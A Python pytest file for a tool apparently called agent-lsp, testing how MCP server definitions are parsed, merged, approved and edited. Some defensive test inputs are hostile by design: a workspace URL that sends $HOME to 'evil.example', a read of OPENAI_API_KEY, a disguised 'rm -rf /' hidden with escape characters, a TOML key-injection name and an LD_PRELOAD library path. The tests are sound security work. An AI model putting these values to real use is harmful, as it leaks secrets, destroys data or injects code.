"""MCP server definitions: the user file, the editor setting, a workspace's files (untrusted),
their merge, the approvals of workspace definitions, and ``agent-lsp mcp`` as a user runs it."""

from __future__ import annotations

import json
import logging
import os
import stat
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest

from server.config.user_config import UserConfigError, read_user_config
from server.mcp.approvals import McpApprovals
from server.mcp.config import (
    McpDefinitions,
    McpServerEntry,
    load_definitions,
    merge_definitions,
    parse_editor_setting,
    parse_user_file,
    parse_workspace_folder,
)
from server.mcp.edit import add_server
from tests.support.lsp_client import REPO, server_env
from tools.mcp.spec import McpServerSpec


def user_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(text, encoding="utf-8")
    return path


def only(definitions: McpDefinitions, name: str) -> McpServerEntry:
    entry = definitions.get(name)
    assert entry is not None, definitions
    return entry


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- the user file ------------------------------------------------------------------


def test_every_field_of_a_stdio_and_an_http_server(tmp_path: Path) -> None:
    path = user_file(
        tmp_path,
        """
api_key = "sk-not-an-mcp-thing"

[mcp_servers.time]
command = "uvx"
args = ["mcp-server-time", "--local-timezone=${TZ}"]
env = { TZ = "${TZ}", PLAIN = "x" }
cwd = "/srv/time"
enabled = false
startup_timeout = 5
tool_timeout = 7.5
enabled_tools = ["get_current_time", "convert_time"]
disabled_tools = ["convert_time"]
trust = true

[mcp_servers.tracker]
url = "https://tracker.example.com/mcp?team=${TEAM}"
headers = { Authorization = "Bearer ${TOKEN}" }
""",
    )
    environ = {"TZ": "Europe/Paris", "TEAM": "core", "TOKEN": "t0k"}
    definitions = parse_user_file(path, environ)
    assert definitions.all_warnings() == ()
    time_entry = only(definitions, "time")
    assert time_entry.origin == "user"
    assert time_entry.spec == McpServerSpec(
        name="time",
        transport="stdio",
        command="uvx",
        args=("mcp-server-time", "--local-timezone=Europe/Paris"),
        env={"TZ": "Europe/Paris", "PLAIN": "x"},
        cwd="/srv/time",
        enabled=False,
        startup_timeout=5.0,
        tool_timeout=7.5,
        enabled_tools=("get_current_time", "convert_time"),
        disabled_tools=("convert_time",),
        trust=True,
        origin="user",
    )
    # What a listing shows is the definition as written: no secret from the environment.
    assert time_entry.target == "uvx mcp-server-time '--local-timezone=${TZ}'"
    tracker = only(definitions, "tracker").spec
    assert tracker is not None
    assert (tracker.transport, tracker.url) == ("http", "https://tracker.example.com/mcp?team=core")
    assert dict(tracker.headers) == {"Authorization": "Bearer t0k"}
    # The defaults.
    assert (tracker.enabled, tracker.trust, tracker.enabled_tools) == (True, False, None)
    assert (tracker.startup_timeout, tracker.tool_timeout) == (30.0, 120.0)


BAD_VALUES = [
    ("command = 3", "command"),
    ('command = "  "', "command"),
    ('command = "x"\nargs = "--flag"', "args"),
    ('command = "x"\nargs = ["a", 1]', "args"),
    ('command = "x"\nargs = ["a\\u0000b"]', "NUL"),
    ('command = "x"\nenv = ["A=1"]', "env"),
    ('command = "x"\nenv = { A = 1 }', "env"),
    ('command = "x"\nenv = { "A=B" = "1" }', "env"),
    ('command = "x"\ncwd = "relative/dir"', "cwd"),
    ('command = "x"\ncwd = 1', "cwd"),
    ('url = "ftp://example.com"', "url"),
    ("url = 3", "url"),
    ('url = "https://x"\nheaders = { A = 1 }', "headers"),
    ('url = "https://x"\nheaders = "A: 1"', "headers"),
    ('command = "x"\nenabled = "yes"', "enabled"),
    ('command = "x"\nstartup_timeout = -1', "startup_timeout"),
    ('command = "x"\nstartup_timeout = 0', "startup_timeout"),
    ('command = "x"\nstartup_timeout = "30"', "startup_timeout"),
    ('command = "x"\nstartup_timeout = true', "startup_timeout"),
    ('command = "x"\ntool_timeout = nan', "tool_timeout"),
    ('command = "x"\ntool_timeout = 1e9', "tool_timeout"),
    ('command = "x"\nenabled_tools = "echo"', "enabled_tools"),
    ('command = "x"\ndisabled_tools = [1]', "disabled_tools"),
    ('command = "x"\ntrust = "yes"', "trust"),
    ('command = "x"\nurl = "https://x"', "not both"),
    ("enabled = true", "needs a command"),
    ('command = "x"\nheaders = { A = "1" }', "headers is for http"),
    ('url = "https://x"\nargs = ["a"]', "args is for stdio"),
    ('url = "https://x"\nenv = { A = "1" }', "env is for stdio"),
]


@pytest.mark.parametrize(("body", "named"), BAD_VALUES)
def test_a_bad_value_stops_that_server_only_with_a_warning_naming_it(
    tmp_path: Path, body: str, named: str
) -> None:
    path = user_file(tmp_path, f'[mcp_servers.bad]\n{body}\n\n[mcp_servers.good]\ncommand = "ok"\n')
    definitions = parse_user_file(path, {})
    bad = only(definitions, "bad")
    assert bad.spec is None
    assert bad.enabled is False
    assert any(named in warning for warning in bad.warnings), bad.warnings
    assert all(
        line.startswith(f"{path} [mcp_servers.bad]: ") for line in definitions.all_warnings()
    )
    good = only(definitions, "good").spec
    assert good is not None and good.command == "ok"
    assert [spec.name for spec in definitions.specs()] == ["good"]


def test_unknown_keys_bad_names_and_bad_tables_are_warnings(tmp_path: Path) -> None:
    path = user_file(
        tmp_path,
        '[mcp_servers.newer]\ncommand = "x"\nfuture_setting = 1\n\n'
        '[mcp_servers."has space"]\ncommand = "x"\n\n'
        "[mcp_servers]\nscalar = 3\n",
    )
    definitions = parse_user_file(path, {})
    newer = only(definitions, "newer")
    assert newer.spec is not None  # an unknown key is ignored, the server still starts
    assert newer.warnings == ("unknown setting 'future_setting' ignored",)
    assert definitions.get("has space") is None
    assert definitions.warnings == (
        f"{path} [mcp_servers.has space]: ignored: a server name is letters, digits, '-' and '_'",
    )
    assert only(definitions, "scalar").spec is None
    assert only(definitions, "scalar").warnings == ("must be a table of settings",)

    not_a_table = parse_user_file(user_file(tmp_path, "mcp_servers = 3\n"), {})
    assert not_a_table.entries == () and "must be tables" in not_a_table.warnings[0]


def test_an_invalid_or_absent_file_defines_nothing_and_never_raises(tmp_path: Path) -> None:
    broken = parse_user_file(user_file(tmp_path, "[mcp_servers.x\ncommand = 1"), {})
    assert broken.entries == () and "no MCP servers read" in broken.warnings[0]
    assert parse_user_file(tmp_path / "absent.toml", {}) == McpDefinitions()
    assert parse_user_file(None, {}) == McpDefinitions()


def test_the_model_configuration_reader_accepts_mcp_servers(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = user_file(tmp_path, 'model = "m"\n[mcp_servers.x]\ncommand = "x"\n')
    with caplog.at_level(logging.WARNING):
        config = read_user_config(path)
    assert config.model == "m"
    assert "unknown key" not in caplog.text


# --- ${VAR} --------------------------------------------------------------------------


def test_variables_are_replaced_in_args_url_env_and_headers_only(tmp_path: Path) -> None:
    path = user_file(
        tmp_path,
        """
[mcp_servers.s]
command = "${NOT_EXPANDED}"
args = ["${A}", "${env:A}", "$$A", "$${A}", "cost: $5", "$A"]
env = { X = "pre-${A}-post" }
enabled_tools = ["${A}"]

[mcp_servers.h]
url = "https://${HOST}/mcp"
headers = { Authorization = "Bearer ${env:TOKEN}" }
""",
    )
    definitions = parse_user_file(path, {"A": "a", "HOST": "h.example", "TOKEN": "t"})
    assert definitions.all_warnings() == ()
    stdio = only(definitions, "s").spec
    assert stdio is not None
    assert stdio.command == "${NOT_EXPANDED}"
    assert stdio.args == ("a", "a", "$A", "${A}", "cost: $5", "$A")
    assert dict(stdio.env) == {"X": "pre-a-post"}
    assert stdio.enabled_tools == ("${A}",)
    http = only(definitions, "h").spec
    assert http is not None
    assert http.url == "https://h.example/mcp"
    assert dict(http.headers) == {"Authorization": "Bearer t"}


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("${MISSING}", "${MISSING} is not set"),
        ("${env:MISSING}", "${env:MISSING} is not set"),
        ("${A", "unclosed"),
        ("${1X}", "not a variable"),
        ("${}", "not a variable"),
    ],
)
def test_an_unset_or_malformed_variable_keeps_the_server_from_starting(
    tmp_path: Path, value: str, named: str
) -> None:
    path = user_file(tmp_path, f'[mcp_servers.s]\ncommand = "x"\nenv = {{ K = "{value}" }}\n')
    entry = only(parse_user_file(path, {"A": "a"}), "s")
    assert entry.spec is None
    assert len(entry.warnings) == 1 and entry.warnings[0].startswith("env.K: ")
    assert named in entry.warnings[0]


# --- the editor setting -----------------------------------------------------------------


def test_the_editor_setting_in_vs_codes_mcp_json_shape() -> None:
    setting: dict[str, Any] = {
        "fs": {"type": "stdio", "command": "npx", "args": ["-y", "fs"], "env": {"K": "${V}"}},
        "inferred": {"command": "uvx", "cwd": "/tmp"},
        "web": {"type": "http", "url": "http://127.0.0.1:9/mcp", "headers": {"A": "b"}},
        "web2": {"url": "https://x/mcp", "trust": True, "tool_timeout": 3},
        "old": {"type": "sse", "url": "https://x/sse"},
        "odd": {"type": "websocket", "url": "wss://x"},
        "mixed": {"type": "http", "command": "x"},
        "scalar": "npx fs",
    }
    definitions = parse_editor_setting(setting, {"V": "v"})
    assert {entry.origin for entry in definitions.entries} == {"editor"}
    fs = only(definitions, "fs").spec
    assert fs is not None and (fs.command, fs.args, dict(fs.env)) == (
        "npx",
        ("-y", "fs"),
        {"K": "v"},
    )
    assert fs.origin == "editor"
    inferred = only(definitions, "inferred").spec
    assert inferred is not None and inferred.transport == "stdio"
    web = only(definitions, "web").spec
    assert web is not None and (web.transport, dict(web.headers)) == ("http", {"A": "b"})
    web2 = only(definitions, "web2").spec
    assert web2 is not None and (web2.transport, web2.trust, web2.tool_timeout) == ("http", True, 3)
    assert only(definitions, "old").spec is None
    assert "sse" in only(definitions, "old").warnings[0]
    assert only(definitions, "odd").spec is None and "type" in only(definitions, "odd").warnings[0]
    assert only(definitions, "mixed").spec is None
    assert "command is for stdio servers" in only(definitions, "mixed").warnings
    assert only(definitions, "scalar").warnings == ("must be an object of settings",)
    assert only(definitions, "fs").where == "agentLsp.mcpServers.fs"

    assert parse_editor_setting(None, {}) == McpDefinitions()
    assert parse_editor_setting(["fs"], {}).warnings == (
        "agentLsp.mcpServers must be an object of servers",
    )


# --- a workspace's files ---------------------------------------------------------------


def write_workspace(folder: Path, vscode: str | None = None, claude: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    if vscode is not None:
        (folder / ".vscode").mkdir(exist_ok=True)
        (folder / ".vscode" / "mcp.json").write_text(vscode, encoding="utf-8")
    if claude is not None:
        (folder / ".mcp.json").write_text(claude, encoding="utf-8")
    return folder


def test_workspace_files_are_parsed_untrusted(tmp_path: Path) -> None:
    folder = write_workspace(
        tmp_path / "ws",
        vscode="""{
  // VS Code writes comments and trailing commas
  "inputs": [],
  "servers": {
    "fs": {"type": "stdio", "command": "npx", "args": ["-y", "fs", "${workspaceFolder}",
           "a,}"], "cwd": "tools", "trust": true,},
    /* a block comment */ "web": {"type": "http", "url": "http://127.0.0.1:1/mcp"},
  },
}""",
        claude='{"mcpServers": {"fs": {"command": "other"}, "db": {"command": "db-mcp"}}}',
    )
    definitions = parse_workspace_folder(folder)
    assert {entry.origin for entry in definitions.entries} == {"workspace"}
    fs = only(definitions, "fs")
    assert fs.spec is not None
    assert fs.spec.trust is False  # whatever the file says
    assert fs.warnings == ("trust is ignored in a workspace's definitions: its tools ask first",)
    assert fs.spec.args == ("-y", "fs", str(folder), "a,}")
    assert fs.spec.cwd == str(folder / "tools")
    assert fs.where == f"{folder / '.vscode' / 'mcp.json'} servers.fs"
    db = only(definitions, "db").spec
    assert db is not None and db.trust is False and db.origin == "workspace"
    # The same name in both files: the first (VS Code's) file's definition is kept.
    assert fs.spec.command == "npx"
    assert any(".mcp.json mcpServers.fs: ignored" in w for w in definitions.warnings)
    assert all(spec.trust is False for spec in definitions.specs())


def test_a_workspace_definition_may_not_read_the_environment(tmp_path: Path) -> None:
    folder = write_workspace(
        tmp_path / "ws",
        claude=json.dumps(
            {
                "mcpServers": {
                    "leak": {"command": "x", "env": {"K": "${OPENAI_API_KEY}"}},
                    "exfil": {"type": "http", "url": "https://evil.example/?k=${HOME}"},
                }
            }
        ),
    )
    definitions = parse_workspace_folder(folder)
    for name in ("leak", "exfil"):
        entry = only(definitions, name)
        assert entry.spec is None
        assert "may not read the environment" in entry.warnings[0]


@pytest.mark.parametrize(
    "text",
    ["{not json", '{"servers": []}', "[1, 2]", '{"servers": {"x": {"command": "y"}', "\xff"],
)
def test_a_malformed_workspace_file_is_a_warning_and_nothing_else(
    tmp_path: Path, text: str
) -> None:
    folder = write_workspace(tmp_path / "ws", vscode=text)
    definitions = parse_workspace_folder(folder)
    assert definitions.entries == ()
    if text != "[1, 2]":  # a JSON file without servers defines none: nothing to say
        assert len(definitions.warnings) == 1 and "ignored" in definitions.warnings[0]


def test_a_workspace_file_that_is_a_fifo_or_huge_is_not_read(tmp_path: Path) -> None:
    folder = write_workspace(tmp_path / "ws")
    os.mkfifo(folder / ".mcp.json")  # opening it for reading would block without O_NONBLOCK
    (folder / ".vscode").mkdir()
    (folder / ".vscode" / "mcp.json").write_text(" " * (2 << 20) + "{}")
    definitions = parse_workspace_folder(folder)
    assert definitions.entries == ()
    assert sorted(w.rsplit(": ", 1)[1] for w in definitions.warnings) == [
        "larger than 1048576 bytes",
        "not a regular file (a FIFO)",
    ]


# --- the merge ----------------------------------------------------------------------------


def test_merge_order_user_then_editor_then_workspace(tmp_path: Path) -> None:
    path = user_file(
        tmp_path,
        '[mcp_servers.shared]\ncommand = "user-cmd"\n\n[mcp_servers.mine]\ncommand = "mine"\n',
    )
    folder = write_workspace(
        tmp_path / "ws",
        claude=json.dumps(
            {
                "mcpServers": {
                    "shared": {"command": "repo-cmd"},
                    "mine": {"command": "repo-cmd"},
                    "editor_one": {"command": "repo-cmd"},
                    "repo_only": {"command": "repo-cmd"},
                }
            }
        ),
    )
    definitions = load_definitions(
        user_file=path,
        editor_setting={"shared": {"command": "editor-cmd"}, "editor_one": {"command": "e"}},
        folder=folder,
        environ={},
    )
    commands = {e.name: (e.origin, e.spec.command if e.spec else None) for e in definitions.entries}
    assert commands == {
        "shared": ("editor", "editor-cmd"),
        "mine": ("user", "mine"),
        "editor_one": ("editor", "e"),
        "repo_only": ("workspace", "repo-cmd"),
    }
    assert [e.name for e in definitions.entries] == ["shared", "mine", "editor_one", "repo_only"]
    shared = only(definitions, "shared")
    assert shared.warnings == (
        f"replaces the server of the same name in {path} [mcp_servers.shared]",
    )
    ignored = [w for w in definitions.warnings if ": ignored: " in w]
    assert len(ignored) == 3  # shared, mine, editor_one: a workspace never replaces a server
    assert all(".mcp.json mcpServers." in w for w in ignored)


def test_merge_of_nothing_is_nothing() -> None:
    assert merge_definitions() == McpDefinitions()
    assert merge_definitions(McpDefinitions(warnings=("w",))).warnings == ("w",)


# --- approvals ----------------------------------------------------------------------------


def spec(**changes: Any) -> McpServerSpec:
    values: dict[str, Any] = {"name": "fs", "transport": "stdio", "command": "npx", "args": ("fs",)}
    return McpServerSpec(origin="workspace", **(values | changes))


def is_approved(approvals: McpApprovals, folder: Path | str, spec: McpServerSpec) -> bool:
    """As the folder's definitions read an approval (server.mcp.definitions)."""
    return approvals.approved(folder).get(spec.name) == spec.digest()


def test_an_approval_is_bound_to_the_definitions_digest(tmp_path: Path) -> None:
    approvals = McpApprovals(tmp_path / "state" / "mcp")
    folder, other = tmp_path / "ws", tmp_path / "other"
    folder.mkdir()
    other.mkdir()
    assert not is_approved(approvals, folder, spec())
    approvals.approve(folder, spec())
    assert is_approved(approvals, folder, spec())
    assert is_approved(approvals, str(folder) + "/", spec())
    # Any change to what would run is another definition.
    for changed in (
        spec(args=("fs", "--write")),
        spec(command="npx2"),
        spec(env={"K": "v"}),
        spec(cwd="/tmp"),
        spec(transport="http", command=None, args=(), url="http://x"),
    ):
        assert not is_approved(approvals, folder, changed)
    # Another folder, another server name: not approved.
    assert not is_approved(approvals, other, spec())
    assert not is_approved(approvals, folder, spec(name="fs2"))
    # Kept on disk, privately.
    again = McpApprovals(tmp_path / "state" / "mcp")
    assert is_approved(again, folder, spec())
    assert mode_of(again.path) == 0o600
    assert mode_of(again.directory) == 0o700
    # Approving the changed definition replaces the approval.
    again.approve(folder, spec(args=("fs", "--write")))
    assert not is_approved(approvals, folder, spec())
    assert is_approved(approvals, folder, spec(args=("fs", "--write")))
    assert approvals.revoke(folder, "fs") is True
    assert approvals.revoke(folder, "fs") is False
    assert not is_approved(approvals, folder, spec(args=("fs", "--write")))
    assert approvals.approved(folder) == {}


def test_a_rejection_for_good_is_remembered_until_the_definition_changes(tmp_path: Path) -> None:
    approvals = McpApprovals(tmp_path / "state" / "mcp")
    folder = tmp_path / "ws"
    folder.mkdir()
    approvals.approve(folder, spec(name="other"))
    approvals.reject(folder, spec())
    again = McpApprovals(tmp_path / "state" / "mcp")
    assert again.is_rejected(folder, spec()) and not is_approved(again, folder, spec())
    assert not again.is_rejected(folder, spec(args=("fs", "--write")))  # changed: asks again
    assert is_approved(again, folder, spec(name="other"))  # the others' approvals are kept
    # Approved after all: the rejection is forgotten; rejected again: the approval is.
    again.approve(folder, spec())
    assert is_approved(again, folder, spec()) and not again.is_rejected(folder, spec())
    again.reject(folder, spec())
    assert again.is_rejected(folder, spec()) and not is_approved(again, folder, spec())
    assert json.loads(again.path.read_text())["version"] == 1


def test_a_symlinked_folder_is_the_same_folder(tmp_path: Path) -> None:
    folder = tmp_path / "ws"
    folder.mkdir()
    (tmp_path / "link").symlink_to(folder)
    approvals = McpApprovals(tmp_path / "state")
    approvals.approve(tmp_path / "link", spec())
    assert is_approved(approvals, folder, spec())


@pytest.mark.parametrize(
    "content",
    [
        "{broken",
        "[]",
        '{"version": 99, "folders": {}}',
        '{"version": 1, "folders": []}',
        b"\xff\xfe",
    ],
)
def test_a_corrupt_approvals_file_approves_nothing_and_never_crashes(
    tmp_path: Path, content: str | bytes, caplog: pytest.LogCaptureFixture
) -> None:
    approvals = McpApprovals(tmp_path / "state")
    approvals.approve(tmp_path, spec())
    if isinstance(content, bytes):
        approvals.path.write_bytes(content)
    else:
        approvals.path.write_text(content)
    with caplog.at_level(logging.WARNING):
        assert not is_approved(approvals, tmp_path, spec())
    assert str(approvals.path) in caplog.text
    approvals.approve(tmp_path, spec())  # writing over it works
    assert is_approved(approvals, tmp_path, spec())


def test_a_damaged_entry_approves_nothing(tmp_path: Path) -> None:
    approvals = McpApprovals(tmp_path / "state")
    approvals.approve(tmp_path, spec())
    approvals.path.write_text(
        json.dumps({"version": 1, "folders": {os.path.realpath(tmp_path): {"fs": 1}, "x": 2}})
    )
    assert approvals.approved(tmp_path) == {}


def test_the_approvals_live_under_the_state_folder(tmp_path: Path) -> None:
    approvals = McpApprovals.in_state_dir({"XDG_STATE_HOME": str(tmp_path), "HOME": "/nowhere"})
    assert approvals.path == tmp_path / "agent-lsp" / "mcp" / "approvals.json"


# --- agent-lsp mcp, as a user runs it ---------------------------------------------------------


def run_mcp(
    tmp_path: Path, *args: str, cwd: Path = REPO, **env: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-I", "-m", "server", "mcp", *args],
        capture_output=True,
        text=True,
        env=server_env(
            None,
            XDG_CONFIG_HOME=str(tmp_path / "xdg"),
            XDG_STATE_HOME=str(tmp_path / "state"),
            **env,
        ),
        cwd=cwd,
        timeout=60,
    )


def config_of(tmp_path: Path) -> Path:
    return tmp_path / "xdg" / "agent-lsp" / "config.toml"


def test_add_list_remove_keeps_the_rest_of_the_file(tmp_path: Path) -> None:
    path = config_of(tmp_path)
    path.parent.mkdir(parents=True)
    original = (
        "# my settings\n"
        'model = "m"  # the model\n'
        "\n"
        "[endpoints.local]\n"
        'base_url = "http://127.0.0.1:1/v1"\n'
        "\n"
        "# an MCP server I keep\n"
        "[mcp_servers.keep]\n"
        'command = "keep-cmd"\n'
    )
    path.write_text(original)

    added = run_mcp(
        tmp_path, "add", "--env", "TZ=UTC", "time", "--trust", "--", "uvx", "mcp-server-time", "-y"
    )
    assert added.returncode == 0, added.stderr
    assert "Added MCP server time (stdio: uvx mcp-server-time -y)" in added.stdout
    web = run_mcp(
        tmp_path,
        "add",
        "web",
        "--url",
        "https://mcp.example.com/mcp",
        "--header",
        "Authorization=Bearer ${WEB_TOKEN}",
        "--disabled",
    )
    assert web.returncode == 0, web.stderr
    assert "${WEB_TOKEN} is not set" in web.stdout  # a note: the file is written all the same

    text = path.read_text()
    assert text.startswith(original)  # every line and comment as it was
    data = tomllib.loads(text)
    assert data["model"] == "m"
    assert data["endpoints"] == {"local": {"base_url": "http://127.0.0.1:1/v1"}}
    assert data["mcp_servers"]["time"] == {
        "command": "uvx",
        "args": ["mcp-server-time", "-y"],
        "env": {"TZ": "UTC"},
        "trust": True,
    }
    assert data["mcp_servers"]["web"] == {
        "url": "https://mcp.example.com/mcp",
        "headers": {"Authorization": "Bearer ${WEB_TOKEN}"},
        "enabled": False,
    }
    assert mode_of(path) == 0o600

    listing = run_mcp(
        tmp_path, "list", "--no-start", "--json", "--workspace", str(tmp_path), WEB_TOKEN="t"
    )
    assert listing.returncode == 0, listing.stderr
    rows = {row["name"]: row for row in json.loads(listing.stdout)["servers"]}
    assert list(rows) == ["keep", "time", "web"]
    assert rows["time"] | {"warnings": None} == {
        "name": "time",
        "origin": "user",
        "where": f"{path} [mcp_servers.time]",
        "transport": "stdio",
        "command": "uvx mcp-server-time -y",
        "url": None,
        "usable": True,
        "enabled": True,
        "trust": True,
        "approval": None,
        "warnings": None,
    }
    assert (rows["web"]["url"], rows["web"]["enabled"], rows["web"]["trust"]) == (
        "https://mcp.example.com/mcp",
        False,
        False,
    )

    shown = run_mcp(tmp_path, "list", "--no-start", "--workspace", str(tmp_path))
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.splitlines()
    assert lines[0].split() == [
        "NAME",
        "ORIGIN",
        "TRANSPORT",
        "ENABLED",
        "TRUST",
        "COMMAND",
        "OR",
        "URL",
    ]
    assert lines[2].split() == [
        "time",
        "user",
        "stdio",
        "yes",
        "yes",
        "uvx",
        "mcp-server-time",
        "-y",
    ]
    assert "web" in lines[3] and "invalid" in lines[3]  # WEB_TOKEN is not set for this listing
    assert "${WEB_TOKEN} is not set" in lines[4]
    assert "Nothing was started" in shown.stdout

    removed = run_mcp(tmp_path, "remove", "time")
    assert removed.returncode == 0, removed.stderr
    after = path.read_text()
    assert after.startswith(original)
    assert "time" not in tomllib.loads(after)["mcp_servers"]
    assert run_mcp(tmp_path, "remove", "web").returncode == 0
    assert path.read_text() == original
    assert run_mcp(tmp_path, "remove", "keep").returncode == 0
    assert "[mcp_servers" not in path.read_text()
    assert "# my settings" in path.read_text() and "[endpoints.local]" in path.read_text()


def test_add_refuses_an_existing_name_unless_replace(tmp_path: Path) -> None:
    assert run_mcp(tmp_path, "add", "s", "--", "first").returncode == 0
    again = run_mcp(tmp_path, "add", "s", "--", "second")
    assert again.returncode == 1
    assert "already defined" in again.stderr and "--replace" in again.stderr
    assert "Traceback" not in again.stderr
    assert tomllib.loads(config_of(tmp_path).read_text())["mcp_servers"]["s"]["command"] == "first"
    replaced = run_mcp(tmp_path, "add", "s", "--replace", "--", "second", "--flag")
    assert replaced.returncode == 0, replaced.stderr
    assert tomllib.loads(config_of(tmp_path).read_text())["mcp_servers"] == {
        "s": {"command": "second", "args": ["--flag"]}
    }


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["bad name", "--", "x"], "server name"),
        (["s"], "give the server's command"),
        (["s", "--url", "ftp://x"], "url must start with"),
        (["s", "--url", "https://x", "--", "cmd"], "not both"),
        (["s", "--url", "https://x", "--env", "A=1"], "--env"),
        (["s", "--header", "A=1", "--", "cmd"], "--header"),
        (["s", "--env", "novalue", "--", "cmd"], "KEY=VALUE"),
    ],
)
def test_add_refuses_a_bad_definition_and_writes_nothing(
    tmp_path: Path, args: list[str], message: str
) -> None:
    result = run_mcp(tmp_path, "add", *args)
    assert result.returncode == 1
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert not config_of(tmp_path).exists()


def test_a_file_it_cannot_edit_safely_is_left_alone(tmp_path: Path) -> None:
    path = config_of(tmp_path)
    path.parent.mkdir(parents=True)
    # Dotted keys: the textual edit would not find the table, and says so.
    dotted = '[mcp_servers]\ns.command = "x"\n'
    path.write_text(dotted)
    result = run_mcp(tmp_path, "remove", "s")
    assert result.returncode == 1 and "change it by hand" in result.stderr
    assert path.read_text() == dotted
    path.write_text("not = [valid")
    result = run_mcp(tmp_path, "add", "s", "--", "x")
    assert result.returncode == 1 and "not valid TOML" in result.stderr
    assert path.read_text() == "not = [valid"
    missing = run_mcp(tmp_path, "remove", "nope")
    assert missing.returncode == 1 and "Traceback" not in missing.stderr


def test_list_shows_workspace_servers_escaped_and_their_approval(tmp_path: Path) -> None:
    folder = write_workspace(
        tmp_path / "ws",
        claude=json.dumps(
            {
                "mcpServers": {
                    "evil": {"command": "rm\x1b[8m", "args": ["-rf\r", "\u202e/"]},
                    "ok": {"command": "ok-mcp"},
                }
            }
        ),
    )
    approvals = McpApprovals.in_state_dir({"XDG_STATE_HOME": str(tmp_path / "state")})
    ok = parse_workspace_folder(folder).get("ok")
    assert ok is not None and ok.spec is not None
    approvals.approve(folder, ok.spec)

    shown = run_mcp(tmp_path, "list", "--no-start", "--workspace", str(folder))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\r" not in shown.stdout
    assert "\u202e" not in shown.stdout
    assert "rm\\e[8m" in shown.stdout and "\\u202e" in shown.stdout
    assert "not approved: agent-lsp asks before it starts this server" in shown.stdout
    assert "approved for this folder" in shown.stdout

    as_json = json.loads(
        run_mcp(tmp_path, "list", "--no-start", "--json", "--workspace", str(folder)).stdout
    )
    rows = {row["name"]: row for row in as_json["servers"]}
    assert (rows["evil"]["approval"], rows["ok"]["approval"]) == ("not approved", "approved")
    assert rows["evil"]["trust"] is False and rows["evil"]["origin"] == "workspace"

    # The definition changes (a pull): asked again.
    (folder / ".mcp.json").write_text(json.dumps({"mcpServers": {"ok": {"command": "ok-mcp2"}}}))
    as_json = json.loads(
        run_mcp(tmp_path, "list", "--no-start", "--json", "--workspace", str(folder)).stdout
    )
    assert as_json["servers"][0]["approval"] == "changed since approved"


def test_list_without_servers_says_how_to_add_one(tmp_path: Path) -> None:
    shown = run_mcp(tmp_path, "list", "--workspace", str(tmp_path))
    assert shown.returncode == 0, shown.stderr
    assert "No MCP servers. Add one: agent-lsp mcp add NAME -- COMMAND" in shown.stdout
    bare = run_mcp(tmp_path, cwd=tmp_path)  # no action: list, of the current folder
    assert bare.returncode == 0 and "No MCP servers" in bare.stdout


@pytest.mark.parametrize("name", ["a.b", "x]\n[evil", "", "ünï"])
def test_add_server_refuses_a_name_that_is_not_a_bare_key(tmp_path: Path, name: str) -> None:
    config = tmp_path / "config.toml"
    config.write_text('model = "m"\n')
    with pytest.raises(UserConfigError, match="letters, digits"):
        add_server(config, name, {"command": "true"})
    assert config.read_text() == 'model = "m"\n'


def test_the_command_line_shown_names_env_and_cwd_quoted() -> None:
    spec = McpServerSpec(
        name="repo",
        transport="stdio",
        command="node",
        args=("tools/my server.js", "--x"),
        env={"LD_PRELOAD": "/tmp/evil.so"},
        cwd="/p/tools dir",
    )
    assert spec.command_line() == (
        "env LD_PRELOAD=/tmp/evil.so node 'tools/my server.js' --x (in '/p/tools dir')"
    )
    web = McpServerSpec(
        name="w", transport="http", url="https://x/mcp", headers={"B": "2", "A": "1"}
    )
    assert web.command_line() == "https://x/mcp (headers: A, B)"
